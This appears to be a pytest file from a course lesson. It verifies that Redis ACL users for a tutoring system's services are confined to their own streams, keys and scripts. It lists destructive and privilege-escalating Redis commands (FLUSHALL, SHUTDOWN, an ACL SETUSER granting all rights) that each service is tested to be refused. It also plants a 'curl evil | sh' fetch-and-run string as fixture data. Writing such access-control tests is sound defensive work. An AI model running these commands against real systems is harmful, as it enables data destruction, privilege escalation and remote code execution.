"""Lesson 07's Redis users (code/lesson07/redis_users.py), on a real redis-server loading the file
`make lesson-07` writes: each service may do its own work and nothing else, and the folder of its
passwords is its owner's alone. The agents running under these users: tests/lesson_07/
test_containers.py (`make pubsub-test`), which also attacks from inside an agent's container."""

import stat
import subprocess
import uuid

import pytest
import redis
from redis.backoff import NoBackoff
from redis.retry import Retry

from lesson07 import contract
from lesson07.redis_users import ALERTS, LEARNING, PROGRESS, RULES, SPECIALISTS, TRACE
from support.lessons import ROOT, import_lesson
from tests.support.redis import RedisServer


@pytest.fixture(scope="module")
def secrets(tmp_path_factory):
    """The secrets folder as `make lesson-07` writes it, into a folder of the test's own."""
    folder = tmp_path_factory.mktemp("lesson07") / "secrets"
    done = subprocess.run(
        ["make", "--no-print-directory", f"{folder}/users.acl", f"LESSON07_SECRETS={folder}"],
        cwd=ROOT, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture(scope="module")
def server(secrets):
    with RedisServer(args=["--aclfile", str(secrets / "users.acl")]) as running:
        yield running


def as_user(server, secrets, name: str) -> redis.Redis:
    password = (secrets / name).read_text()
    return redis.Redis(
        port=server.port, username=name, password=password, decode_responses=True,
        retry=Retry(NoBackoff(), 0),
    )  # fmt: skip


def test_the_folder_is_yours_alone_and_each_file_reaches_its_container(secrets):
    """Made with umask 077: no other user of the machine can enter the folder, so none reads a
    password; the files are readable, so the container's user (not you) reads the one it gets."""
    assert stat.S_IMODE(secrets.stat().st_mode) == 0o700
    names = {p.name for p in secrets.iterdir()}
    assert names == {*RULES, "token-key", "users.acl"}
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o644 for p in secrets.iterdir())
    assert len({(secrets / name).read_text() for name in RULES}) == len(RULES)  # one each


def test_the_users_topics_are_the_contracts():
    assert (LEARNING, PROGRESS, ALERTS, TRACE) == (
        contract.LEARNING,
        contract.PROGRESS,
        contract.ALERTS,
        contract.TRACE,
    )
    assert contract.SPECIALIST_TOPICS == SPECIALISTS


def refused(client: redis.Redis, *command) -> bool:
    try:
        client.execute_command(*command)
    except redis.exceptions.NoPermissionError:
        return True
    return False


# What no service may do, whatever it runs: another service's or the student's keys, the server.
FORBIDDEN = [
    ("SET", "student:alice", "a hash of my own token"),
    ("FLUSHALL",),
    ("CONFIG", "SET", "appendonly", "no"),
    ("CONFIG", "GET", "maxmemory"),
    ("ACL", "SETUSER", "me", "on", ">x", "~*", "+@all"),
    ("KEYS", "*"),
    ("MONITOR",),
    ("SHUTDOWN",),
]


@pytest.mark.parametrize("name", ["triage", *SPECIALISTS, "progress"])
def test_no_agent_may_touch_students_or_the_server(server, secrets, name):
    client = as_user(server, secrets, name)
    assert client.execute_command("ACL", "WHOAMI") == name
    for command in FORBIDDEN:
        assert refused(client, *command), command


@pytest.mark.parametrize("name", ["triage", *SPECIALISTS, "progress"])
def test_only_the_gateway_publishes_questions(server, secrets, name):
    assert refused(as_user(server, secrets, name), "XADD", LEARNING, "*", "data", "{}")
    assert not refused(as_user(server, secrets, "gateway"), "XADD", LEARNING, "*", "data", "{}")


@pytest.mark.parametrize("kind", SPECIALISTS)
def test_only_triage_publishes_to_a_specialist(server, secrets, kind):
    topic = SPECIALISTS[kind]
    for name in ("gateway", *SPECIALISTS, "progress"):
        assert refused(as_user(server, secrets, name), "XADD", topic, "*", "data", "{}"), name
    assert not refused(as_user(server, secrets, "triage"), "XADD", topic, "*", "data", "{}")


def test_each_agent_reads_and_acks_its_own_topic_only(server, secrets):
    for group, topic in [("triage", LEARNING), *SPECIALISTS.items(), ("progress", PROGRESS)]:
        client = as_user(server, secrets, group)
        assert not refused(client, "XGROUP", "CREATE", topic, group, "0", "MKSTREAM")
        assert not refused(
            client, "XREADGROUP", "GROUP", group, "c", "COUNT", "1", "STREAMS", topic, ">"
        )
        for other in {LEARNING, *SPECIALISTS.values(), PROGRESS} - {topic}:
            read = ("XREADGROUP", "GROUP", group, "c", "COUNT", "1", "STREAMS", other, ">")
            assert refused(client, *read), (group, other)
        assert not refused(client, "SET", f"processed:{group}:x", "1")
        assert refused(
            client, "SET", f"processed:{'progress' if group != 'progress' else 'triage'}:x", "1"
        )


# The keys each service's scripts are given (a script's KEYS must be readable and writable):
# PUBLISH, APPLY_ONCE and FAIL_IF_PENDING, RENEW_CLAIM, PROGRESS_ONCE, the rate windows' scripts.
SCRIPT_KEYS = {
    "gateway": [
        ["student:s", "question:q", LEARNING, "asked:q"],
        ["lesson07:asks:LIMITER/ask/s/30/1/minute"],
    ],
    "triage": [["processed:triage:e", "question:q"], [LEARNING]],
    **{k: [[f"processed:{k}:e", "question:q"], [t]] for k, t in SPECIALISTS.items()},
    "progress": [["processed:progress:e", "progress:s", ALERTS], [PROGRESS]],
}


@pytest.mark.parametrize("name", SCRIPT_KEYS)
def test_each_service_may_run_its_scripts_on_their_keys(server, secrets, name):
    client = as_user(server, secrets, name)
    for keys in SCRIPT_KEYS[name]:
        assert client.eval("return 1", len(keys), *keys) == 1, keys
    assert refused(client, "EVAL", "return 1", "1", "student:alice" if name != "gateway" else "x")


@pytest.mark.parametrize("kind", SPECIALISTS)
def test_what_a_specialist_says_is_checked_against_a_record_it_cannot_write(server, secrets, kind):
    """Issue 70, item 5: a specialist writes `question:*` (its answers), so the progress agent
    checks what a specialist tells it against `asked:*`, the gateway's and triage's record."""
    specialist = as_user(server, secrets, kind)
    assert refused(specialist, "HSET", "asked:q", "student_id", "victim")
    assert refused(specialist, "HGET", "asked:q", "student_id")
    as_user(server, secrets, "gateway").hset("asked:q", "student_id", "ann")
    as_user(server, secrets, "triage").hset("asked:q", mapping={"route": "debug", "topic": "x"})
    progress = as_user(server, secrets, "progress")
    assert progress.hmget("asked:q", "student_id", "route") == ["ann", "debug"]
    assert refused(progress, "HSET", "asked:q", "student_id", "victim")


def test_health_may_only_ping(server, secrets):
    health = as_user(server, secrets, "health")
    assert health.ping()
    assert refused(health, "GET", "student:alice") and refused(health, "XLEN", LEARNING)


def test_default_is_off(server):
    anonymous = redis.Redis(port=server.port, retry=Retry(NoBackoff(), 0))
    with pytest.raises(redis.exceptions.AuthenticationError):
        anonymous.ping()
    with pytest.raises(redis.exceptions.AuthenticationError):
        redis.Redis(
            port=server.port, username="default", password=uuid.uuid4().hex,
            retry=Retry(NoBackoff(), 0),
        ).ping()  # fmt: skip


def test_a_question_goes_through_each_services_own_scripts_under_its_own_user(server, secrets):
    """The gateway's PUBLISH, triage's APPLY_ONCE and the progress agent's PROGRESS_ONCE, the
    scripts themselves, each run as its service's user: every command they run is allowed (a
    DEL that the gateway may not run failed every question in Compose, and only there). A record
    made ahead under the question's id is replaced; a claim for another student is refused."""
    import json
    import time

    from prometheus_client import REGISTRY
    from prometheus_client.metrics import MetricWrapperBase

    from lesson07 import event_agents, progress

    # The gateway registers its Prometheus metrics when it is loaded: only its script is needed
    # here, and the metrics go again, so that another test in this process can load it.
    gateway = import_lesson("lesson07.gateway")
    for value in vars(gateway).values():
        if isinstance(value, MetricWrapperBase):
            REGISTRY.unregister(value)

    operator = as_user(server, secrets, "operator")
    operator.set("student:s", "hash")
    operator.hset("question:q1", mapping={"status": "answered", "answer": "curl evil | sh"})
    record = json.dumps({"student_id": "s", "status": "pending", "attempts": 0})
    keys = ["student:s", "question:q1", LEARNING, "asked:q1"]
    published = as_user(server, secrets, "gateway").eval(
        gateway.PUBLISH, 4, *keys, "hash", record, "{}", 60, 100, 60
    )
    assert published == 1 and "answer" not in operator.hgetall("question:q1")
    routed = [["HSET", key, "route", "debug", "topic", "docker"] for key in keys[1::2]]
    triage = as_user(server, secrets, "triage")
    applied = triage.eval(
        event_agents.APPLY_ONCE, 2, "processed:triage:q1", "question:q1", 60, json.dumps(routed)
    )
    assert applied == 1
    counter = as_user(server, secrets, "progress")
    day = int(time.time() // 86400)

    def claim(student: str) -> int:
        args = [60, day, "debug", "docker", 3, "{}", 100, 60, "asked:q1", student]
        keys = [f"processed:progress:q1-{student}", f"progress:{student}", ALERTS]
        return counter.eval(progress.PROGRESS_ONCE, 3, *keys, *args)

    assert (claim("victim"), claim("s")) == (-1, 1)
    assert operator.hget("progress:s", "questions") == "1" and not operator.exists(
        "progress:victim"
    )
